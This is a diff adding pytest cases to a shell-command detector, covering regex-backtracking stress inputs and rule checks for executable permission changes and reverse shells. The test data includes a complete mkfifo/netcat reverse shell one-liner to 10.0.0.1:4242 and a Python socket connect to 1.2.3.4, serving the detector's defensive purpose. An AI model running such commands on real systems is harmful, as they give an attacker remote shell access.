@@ -43,6 +43,43 @@ def test_known_bad_commands_are_recognised(command: str, rule: str) -> None:
     assert matched.key == rule
 
 
+@pytest.mark.parametrize(
+    "command",
+    [
+        "chmod " + "7" * 15_000 + "x",
+        "wget " * 3000,
+        "eval " * 3000,
+        "nc " * 5000,
+        "base64 -d " * 1500,
+        "mkfifo " * 2100,
+    ],
+    ids=lambda c: repr(c[:8]),
+)
+def test_pathological_commands_finish_without_catastrophic_backtracking(command: str) -> None:
+    # No clock but pytest's timeout: these used to cost time quadratic in their length
+    # (all under MAX_RULE_CHARS, so the end of each is still looked at).
+    assert match_command(command) is None
+    assert match_command(command + " | sh; uname -a") is not None
+
+
+@pytest.mark.parametrize(
+    ("command", "rule"),
+    [
+        ("chmod 0755 /tmp/.x", "made_executable"),
+        ("chmod u+x run", "made_executable"),
+        (
+            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f",
+            "reverse_shell",
+        ),
+        ("python -c 'import socket;s=socket.socket();s.connect((\"1.2.3.4\",1))'", "reverse_shell"),
+    ],
+)
+def test_rewritten_patterns_still_recognise_their_commands(command: str, rule: str) -> None:
+    matched = match_command(command)
+    assert matched is not None
+    assert matched.key == rule
+
+
 @pytest.mark.parametrize("command", ["ls -la", "cd /tmp", "echo hello", "chmod 644 notes.txt"])
 def test_ordinary_commands_are_not_flagged(command: str) -> None:
     assert match_command(command) is None
